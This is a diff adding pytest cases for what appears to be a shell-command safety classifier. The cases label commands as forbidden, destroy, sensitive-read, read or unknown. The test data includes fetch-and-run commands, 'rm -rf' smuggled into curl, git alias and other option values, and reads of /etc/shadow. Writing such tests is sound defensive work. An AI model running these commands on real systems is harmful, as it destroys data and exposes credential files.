@@ -240,3 +240,30 @@ def test_nothing_understood_is_never_a_read(command: str) -> None:
 )
 def test_wrappers_end_somewhere(nested: str) -> None:
     assert ask(nested).cls in {"forbidden", "read"}
+
+
+@pytest.mark.parametrize(
+    ("command", "cls"),
+    [
+        ("cat a > x.sh; bash x.sh", "forbidden"),
+        ("cat a > ./x.sh && ./x.sh", "forbidden"),
+        ("curl -o x.sh http://a/; sh x.sh", "forbidden"),
+        ("cat a > x.sh; bash y.sh", "unknown"),
+        ("curl --config 'rm -rf /srv/x' http://a/", "destroy"),
+        ("git -c alias.x='rm -rf /srv/x' x", "destroy"),
+        ("zzz --run='rm -rf /srv/x'", "destroy"),
+        ("cat a\ncat b", "unknown"),
+        ("env sudo cat x", "unknown"),
+        ("bash -c 'sudo cat x'", "read"),
+        ("find /etc -name shadow -exec cat {} +", "sensitive-read"),
+        ("find /etc -type f -exec cat {} +", "sensitive-read"),
+        ("find . -name '*.tf' -exec cat {} +", "read"),
+        ("find . -exec bash -c 'cat {}' \\;", "unknown"),
+        ("cat café.txt", "read"),
+        ("rm x --frob", "destroy"),
+        ("kubectl --frob x delete ns y", "destroy"),
+        ("bash -c", "unknown"),
+    ],
+)
+def test_harm_is_named_beside_doubt(command: str, cls: str) -> None:
+    assert ask(command).cls == cls
